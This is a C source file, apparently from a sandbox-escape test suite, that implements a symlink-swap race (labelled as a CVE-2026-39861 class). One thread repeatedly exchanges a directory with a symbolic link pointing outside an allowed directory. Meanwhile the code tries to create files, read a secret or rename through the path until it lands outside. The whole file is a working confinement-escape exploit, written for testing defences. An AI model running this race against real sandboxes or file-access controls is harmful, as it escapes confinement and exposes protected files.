/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A path below an allowed directory that leads inside when it is looked at and outside when it is used (CVE-2026-39861 class): a thread
 * exchanges a directory and a symbolic link while another opens, makes and renames through it. ARG: how often.
 */
#include "attack.h"

#include <linux/fs.h>
#include <pthread.h>

struct swap {
	char one[4096], two[4096];
	int stop;
};

static void *exchange(void *argument)
{
	struct swap *swap = argument;

	while (!__atomic_load_n(&swap->stop, __ATOMIC_RELAXED))
		if (syscall(SYS_renameat2, AT_FDCWD, swap->one, AT_FDCWD, swap->two, RENAME_EXCHANGE) < 0) {
			/* gVisor has no exchange: two renames, in which the name is missing for a moment */
			char third[4200];

			(void)below(third, sizeof(third), swap->two, "x");
			third[strlen(third) - 2] = '3';
			third[strlen(third) - 1] = 0;
			(void)rename(swap->one, third);
			(void)rename(swap->two, swap->one);
			(void)rename(third, swap->two);
		}
	return NULL;
}

/* Runs attempt(path below the exchanged name) until it reaches outside. */
static int race(const struct attack *a, const char *name, int (*attempt)(const struct attack *a, const char *path))
{
	struct swap swap = { .stop = 0 };
	char path[4200];
	long rounds = strtol(a->more[0], NULL, 10);
	pthread_t thread;
	int r = NOTHING;

	(void)snprintf(swap.one, sizeof(swap.one), "%s/%s", a->work, name);
	(void)snprintf(swap.two, sizeof(swap.two), "%s/%s-link", a->work, name);
	if (mkdir(swap.one, 0755) < 0 || symlink(a->outside, swap.two) < 0)
		return errno;
	(void)below(path, sizeof(path), swap.one, name);
	if (pthread_create(&thread, NULL, exchange, &swap) != 0)
		return EAGAIN;
	for (long i = 0; i < rounds && r != 0; i++)
		r = attempt(a, path);
	__atomic_store_n(&swap.stop, 1, __ATOMIC_RELAXED);
	(void)pthread_join(thread, NULL);
	return r;
}

static int create(const struct attack *a, const char *path)
{
	char there[4096];
	struct stat st;
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	if (fd >= 0)
		(void)close(fd);
	return stat(below(there, sizeof(there), a->outside, "created"), &st) < 0 ? EACCES : 0;
}

static int read_secret(const struct attack *a, const char *path)
{
	(void)a;
	return is_secret(open(path, O_RDONLY | O_CLOEXEC)) == 0 ? 0 : EACCES;
}

static int move(const struct attack *a, const char *path)
{
	char there[4096], mine[4096];
	struct stat st;

	(void)write_file(below(mine, sizeof(mine), a->work, "mine"), "mine");
	(void)rename(mine, path);
	return stat(below(there, sizeof(there), a->outside, "moved"), &st) < 0 ? EACCES : 0;
}

static int race_create(const struct attack *a)
{
	return race(a, "created", create);
}

static int race_read(const struct attack *a)
{
	return race(a, "secret", read_secret);
}

static int race_move(const struct attack *a)
{
	return race(a, "moved", move);
}

static const struct way ways[] = {
	{ "create", race_create },
	{ "read", race_read },
	{ "rename", race_move },
};

ATTACK_MAIN(ways)
